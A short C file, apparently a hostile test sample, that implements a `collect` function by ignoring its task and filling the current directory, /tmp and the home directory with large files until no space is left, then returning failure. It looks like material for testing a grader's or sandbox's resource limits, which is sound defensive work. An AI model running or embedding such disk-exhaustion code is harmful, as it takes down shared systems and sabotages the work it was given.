/* Writes files into its directory, /tmp and its home until nothing more fits. */
#include "collect.h"
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
static void fill(const char *dir)
{
    static char block[1 << 20];
    for (int i = 0; i < 100000; i++) {
        char path[512];
        snprintf(path, sizeof path, "%s/fill-%d-%d", dir ? dir : ".", (int)getpid(), i);
        int fd = open(path, O_CREAT | O_WRONLY, 0600);
        if (fd == -1)
            return;
        ssize_t wrote = 1;
        for (int j = 0; j < 1024 && wrote > 0; j++)
            wrote = write(fd, block, sizeof block);
        close(fd);
        if (wrote <= 0)
            return;
    }
}
int collect(int n, long (*work)(int index), long items[])
{
    (void)n, (void)work, (void)items;
    fill(".");
    fill("/tmp");
    fill(getenv("HOME"));
    return -1;
}
